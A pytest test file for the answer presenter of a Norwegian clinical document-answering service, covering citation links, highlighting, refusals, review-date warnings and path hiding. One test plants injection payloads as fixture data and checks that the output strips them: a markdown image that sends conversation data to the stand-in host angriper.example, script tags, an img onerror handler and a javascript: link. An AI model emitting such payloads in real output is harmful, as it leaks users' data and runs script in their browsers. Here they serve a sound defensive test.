"""How an answer is shown: what verification found, clickable [n] that open
exactly source n, the supporting text highlighted, originals as links."""

from __future__ import annotations

import datetime as dt
import json
import re

import pytest

from rag.messages import FALLBACK_NOT_VERIFIED, FALLBACK_QUOTE_MODE, REASON_NOT_FOUND, REASON_UNSUPPORTED, fallback_notice
from rag.models import Answer, AnswerSentence, Citation, Passage, Question, Timings
from rag.settings import Settings
from ui import presenter
from ui.feedback import cited_sources

TODAY = dt.date(2026, 1, 15)
PILL = re.compile(r"\[\[(\d+)\]\]\(#kilde-(\d+)\)")


@pytest.fixture()
def library(tmp_path):
    root = tmp_path / "bibliotek"
    (root / "fjordbyen").mkdir(parents=True)
    docx = root / "fjordbyen" / "urinkateter.docx"
    docx.write_bytes(b"PK stand-in")
    return root


@pytest.fixture()
def settings(tmp_path, library) -> Settings:
    return Settings(_env_file=None, data_dir=tmp_path / "data", chat_file_roots=[library])


def _passage(library, **overrides) -> Passage:
    fields = dict(
        chunk_id="c1",
        doc_id="file:fjordbyen/urinkateter.docx",
        text="Kateteret skiftes etter 30 dager.\n\nVed feber: kontakt lege.",
        title="Urinkateter – innleggelse og stell",
        heading_path=["Urinkateter – innleggelse og stell", "Skifte av kateter"],
        publisher="Fjordbyen sykehus",
        doc_type="prosedyre",
        source_path=str(library / "fjordbyen" / "urinkateter.docx"),
        updated=dt.date(2024, 3, 1),
        version="2.1",
        review_due=dt.date(2025, 3, 1),
        access_groups=["fjordbyen"],
        score=0.031,
        relevance=0.72,
    )
    fields.update(overrides)
    return Passage(**fields)


def _web_passage(library) -> Passage:
    return _passage(
        library,
        chunk_id="c2",
        doc_id="file:nasjonal/trykksar-veileder.pdf",
        text="Pasienter med høy risiko skal snus minst hver 2. time.",
        title="Forebygging av trykksår",
        heading_path=["Forebygging av trykksår", "Tiltak"],
        source_path="",
        url="https://www.helsedirektoratet.no/trykksar",
        page_start=4,
        page_end=5,
        review_due=None,
        version="",
    )


def _generated(library, **overrides) -> Answer:
    first, second = _passage(library), _web_passage(library)
    fields = dict(
        question="Hvor ofte skiftes urinkateter?",
        standalone_question="Hvor ofte skiftes permanent urinkateter?",
        text="Kateteret skiftes etter 30 dager [1]. Snu pasienten minst hver 2. time [2].",
        kind="generated",
        sentences=[
            AnswerSentence(text="Kateteret skiftes etter 30 dager.", citations=[1], verified=True, support=0.9),
            AnswerSentence(text="Snu pasienten minst hver 2. time.", citations=[2], verified=True, support=0.8, paragraph=1),
        ],
        citations=[
            Citation(number=1, passage=first, highlights=["Kateteret skiftes etter 30 dager."]),
            Citation(number=2, passage=second, highlights=["snus minst hver 2. time"]),
        ],
        retrieved=[first, second],
        model="normistral-7b",
        timings=Timings(retrieval_ms=12.0, first_token_ms=250.0, tokens_per_s=20.0, total_ms=1800.0),
    )
    fields.update(overrides)
    return Answer(**fields)


def _pills(markdown: str) -> list[int]:
    found = PILL.findall(markdown)
    assert all(a == b for a, b in found), found  # the link opens the number it shows
    return [int(a) for a, _ in found]


def test_verified_sentences_carry_pills_that_open_exactly_their_source(library, settings):
    view = presenter.present(_generated(library), settings, today=TODAY)
    answer_part = view.markdown.split("**Kilder**")[0]
    assert "Kateteret skiftes etter 30 dager [[1]](#kilde-1)." in answer_part
    assert "Snu pasienten minst hver 2. time [[2]](#kilde-2)." in answer_part
    # Paragraphs stay paragraphs.
    assert "30 dager [[1]](#kilde-1).\n\nSnu" in answer_part
    # Every pill has a panel with that number, headed with that number and its own title.
    panels = {s.number: s for s in view.sources}
    assert set(_pills(view.markdown)) == set(panels) == {1, 2}
    assert panels[1].panel_title == "[1] Urinkateter – innleggelse og stell"
    assert panels[2].panel_title == "[2] Forebygging av trykksår"
    assert "Skrevet av språkmodellen normistral-7b" in view.markdown
    # The element carries exactly these panels.
    props = view.element_props()
    assert props["state"] == "final" and [s["number"] for s in props["sources"]] == [1, 2]


def test_an_unverified_sentence_is_marked_and_never_gets_a_pill(library, settings):
    answer = _generated(
        library,
        sentences=[
            AnswerSentence(text="Kateteret skiftes etter 30 dager.", citations=[1], verified=True, support=0.9),
            # Kept by keep_unverified_sentences; even a citation number on it must not become a pill.
            AnswerSentence(text="Gi 1 g paracetamol.", citations=[2], verified=False, support=0.1),
        ],
        uncited_sentences=["Gi 1 g paracetamol."],
        citations=[Citation(number=1, passage=_passage(library), highlights=["Kateteret skiftes etter 30 dager."])],
    )
    markdown = presenter.present(answer, settings, today=TODAY).markdown
    assert "30 dager [[1]](#kilde-1). *Gi 1 g paracetamol.* **(⚠️ ikke bekreftet av kildene)**" in markdown
    assert 2 not in _pills(markdown)


def test_a_quote_answer_is_shown_as_quotes_under_a_line_that_says_so_and_why(library, settings):
    quoted = "Kateteret skiftes etter 30 dager."
    answer = _generated(
        library,
        kind="quote",
        fallback_reason=FALLBACK_NOT_VERIFIED,
        text="Sitater fra kildene, ordrett:\n«Kateteret skiftes etter 30 dager.» [1]",
        sentences=[AnswerSentence(text=quoted, citations=[1], verified=True, support=1.0, quote=True)],
        citations=[Citation(number=1, passage=_passage(library), support=1.0, highlights=[quoted])],
        notices=[fallback_notice("nb", FALLBACK_NOT_VERIFIED)],
        model="",
    )
    view = presenter.present(answer, settings, today=TODAY)
    first, quote = view.markdown.split("\n\n")[:2]
    assert first.startswith("**Sitater fra kildene, ordrett.**")
    assert "kunne ikke verifiseres" in first
    assert view.markdown.count(fallback_notice("nb", FALLBACK_NOT_VERIFIED)) == 1  # not again as a notice
    assert quote == "> «Kateteret skiftes etter 30 dager.» [[1]](#kilde-1)"
    assert view.sources[0].segments[0].highlight and view.sources[0].segments[0].text == quoted


@pytest.mark.parametrize(
    ("language", "title", "quote_title"),
    [("nb", "Fant ikke svar i kildene", "Sitater fra kildene"), ("nn", "Fann ikkje svar i kjeldene", "Sitat frå kjeldene"),
     ("en", "No answer found in the sources", "Quotes from the sources")],
)
def test_titles_and_hints_follow_the_answers_language(library, settings, language, title, quote_title):
    refusal = _generated(
        library, kind="refusal", refused=True, refusal_reason=REASON_NOT_FOUND, text="…", sentences=[], citations=[],
        language=language,
    )
    markdown = presenter.present(refusal, settings).markdown
    assert markdown.startswith(f"**{title}.**")
    assert presenter.TEXTS[language].refusal_hint in markdown
    quote = _generated(library, kind="quote", fallback_reason=FALLBACK_QUOTE_MODE, language=language)
    assert presenter.present(quote, settings).markdown.startswith(f"**{quote_title}")


def test_a_refusal_after_the_right_documents_were_found_does_not_blame_the_guidelines(library, settings):
    found = [_passage(library), _web_passage(library), _passage(library, chunk_id="c3"), _passage(library, chunk_id="c4")]
    answer = _generated(
        library,
        kind="refusal",
        refused=True,
        refusal_reason=REASON_UNSUPPORTED,
        text="Språkmodellens svar kunne ikke bekreftes av kildene, og ingen setning i kildene svarer direkte på spørsmålet.",
        sentences=[],
        citations=[],
        retrieved=found,
    )
    view = presenter.present(answer, settings, today=TODAY)
    assert view.markdown.startswith("**Ingen svar jeg kan bekrefte.**")
    assert "retningslinjene" not in view.markdown and presenter.TEXTS["nb"].refusal_hint not in view.markdown
    # The closest sources are listed, and open like any other.
    assert "**Nærmeste kilder**" in view.markdown
    assert [s.number for s in view.sources] == _pills(view.markdown) == [1, 2, 3]
    # Nothing found at all: the guidelines' title, no sources.
    none = presenter.present(answer.model_copy(update={"refusal_reason": REASON_NOT_FOUND}), settings)
    assert none.markdown.startswith("**Fant ikke svar i kildene.**") and not none.sources and not _pills(none.markdown)
    # A word no readable source has: the same, with the word named and no neighbouring topic offered.
    from rag.messages import REASON_UNKNOWN_TERM, refusal_text

    unknown = answer.model_copy(
        update={"refusal_reason": REASON_UNKNOWN_TERM, "text": refusal_text("nb", REASON_UNKNOWN_TERM, terms=["vankomycin"])}
    )
    view = presenter.present(unknown, settings)
    assert view.markdown.startswith("**Fant ikke svar i kildene.** Jeg finner ikke «vankomycin» i kildene")
    assert not view.sources and not _pills(view.markdown)


def test_the_supporting_text_is_highlighted_verbatim_in_the_passage():
    text = "Kateteret skiftes etter 30 dager.\n\nVed feber: kontakt\nlege straks. Annet."
    segments = presenter.highlight_segments(text, ["Ved feber: kontakt lege straks.", "finnes ikke i teksten", "30 dager"])
    assert "".join(s.text for s in segments) == text  # nothing lost or added
    assert [s.text for s in segments if s.highlight] == ["30 dager", "Ved feber: kontakt\nlege straks."]
    overlapping = presenter.highlight_segments("a b c d", ["a b c", "b c d"])
    assert [s.text for s in overlapping if s.highlight] == ["a b c d"]


def test_the_original_is_a_link_and_never_a_server_path(library, settings, tmp_path):
    outside = tmp_path / "hemmelig.docx"
    outside.write_bytes(b"x")
    answer = _generated(
        library,
        citations=[
            Citation(number=1, passage=_passage(library)),
            Citation(number=2, passage=_web_passage(library)),
            Citation(number=3, passage=_passage(library, chunk_id="c9", doc_id="file:x.docx", source_path=str(outside))),
        ],
    )
    view = presenter.present(answer, settings, today=TODAY)
    local, web, elsewhere = view.sources
    assert local.original_href == "/fagprat/dokument/file:fjordbyen/urinkateter.docx"
    assert web.original_href == "https://www.helsedirektoratet.no/trykksar"
    assert elsewhere.original_href == ""
    shown = view.markdown + json.dumps(view.element_props(), ensure_ascii=False)
    assert str(library) not in shown and str(outside) not in shown and "/srv/" not in shown


def test_a_local_pdf_can_be_shown_in_the_panel_at_the_cited_page(library, settings):
    pdf = library / "fjordbyen" / "fall.pdf"
    pdf.write_bytes(b"%PDF-1.4\n")
    passage = _passage(library, doc_id="file:fjordbyen/fall.pdf", source_path=str(pdf), page_start=3)
    view = presenter.present(_generated(library, citations=[Citation(number=1, passage=passage)]), settings)
    source = view.sources[0]
    assert source.original_href == "/fagprat/dokument/file:fjordbyen/fall.pdf#page=3"
    assert (source.pdf_url, source.pdf_page) == ("/fagprat/dokument/file:fjordbyen/fall.pdf", 3)


def test_overdue_review_date_is_warned_about(library, settings):
    view = presenter.present(_generated(library), settings, today=TODAY)
    first, second = view.sources
    assert "Revisjonsfristen gikk ut 01.03.2025" in first.warning and not second.warning
    assert view.markdown.count("revisjonsfrist passert") == 1
    early = presenter.present(_generated(library), settings, today=dt.date(2025, 2, 1))
    assert not early.sources[0].warning


def test_model_and_document_text_cannot_fetch_images_or_run_html(library, settings):
    planted = _passage(library, title="Rutine [klikk](javascript:alert(1)) <img src=x onerror=alert(1)>")
    answer = _generated(
        library,
        sentences=[
            AnswerSentence(
                text="Se ![](https://angriper.example/lekk?q=samtale) og <script>alert(1)</script> her.",
                citations=[1], verified=True,
            )
        ],
        citations=[Citation(number=1, passage=planted)],
        notices=["![x](https://angriper.example/varsel.png)"],
    )
    markdown = presenter.present(answer, settings).markdown
    assert "![" not in markdown and "<script" not in markdown and "<img" not in markdown
    assert "](javascript:" not in markdown
    assert "(#kilde-1)" in markdown  # our own links still work


def test_notices_are_shown_first(library, settings):
    answer = _generated(library, notices=["Et fødselsnummer i spørsmålet ble fjernet."])
    markdown = presenter.present(answer, settings).markdown
    assert markdown.splitlines()[0] == "> ℹ️ Et fødselsnummer i spørsmålet ble fjernet."


def test_an_answer_without_sentences_still_links_only_known_sources(library, settings):
    answer = _generated(library, sentences=[], text="Kateteret skiftes etter 30 dager [1], se også [7].")
    markdown = presenter.present(answer, settings).markdown
    assert "30 dager [[1]](#kilde-1), se også [7]." in markdown


def test_a_draft_says_it_is_a_draft():
    markdown = presenter.draft_markdown("Kateteret skiftes")
    assert markdown.startswith(f"**{presenter.DRAFT_TITLE}**") and markdown.endswith("Kateteret skiftes")
    assert presenter.DRAFT_PROPS["state"] == "draft"


def test_retrieval_summary_lists_sources_scores_and_timings(library):
    output = presenter.retrieval_summary(_generated(library))
    assert "Søkt etter:** Hvor ofte skiftes permanent urinkateter?" in output
    assert "1. Urinkateter – innleggelse og stell > " in output
    assert "relevans 0.72" in output
    assert "første token 250 ms" in output
    assert "normistral-7b" in output


def test_cited_sources_for_feedback(library):
    sources = cited_sources(_generated(library))
    assert [s["number"] for s in sources] == [1, 2]
    assert sources[0]["doc_id"] == "file:fjordbyen/urinkateter.docx"
    assert sources[1]["page"] == "4-5"


@pytest.mark.slow
def test_real_answers_link_every_pill_to_a_panel_with_its_highlight_found(service, indexed_settings):
    """The service's own answers (default answer mode), as the chat shows them."""
    for text, groups in (
        ("Hvor raskt etter innleggelse skal fallrisiko vurderes?", ["nasjonal", "fjordbyen"]),
        ("Kor ofte skal munnstell gjerast hos pasientar i livets sluttfase?", ["nasjonal", "nordlia"]),
        ("How soon should antibiotics be given in suspected sepsis with organ failure?", ["nasjonal"]),
    ):
        answer = service.answer(Question(text=text, access_groups=groups))
        assert not answer.refused, (text, answer.refusal_reason)
        settings = indexed_settings.model_copy(update={"chat_file_roots": [indexed_settings.data_dir.parent]})
        view = presenter.present(answer, settings)
        assert sorted(set(_pills(view.markdown))) == [s.number for s in view.sources]
        for source, citation in zip(view.sources, answer.citations, strict=True):
            assert source.panel_title.startswith(f"[{citation.number}] {citation.passage.title}")
            marked = [s.text for s in source.segments if s.highlight]
            assert len(marked) >= 1 if citation.highlights else not marked, (source.panel_title, citation.highlights)
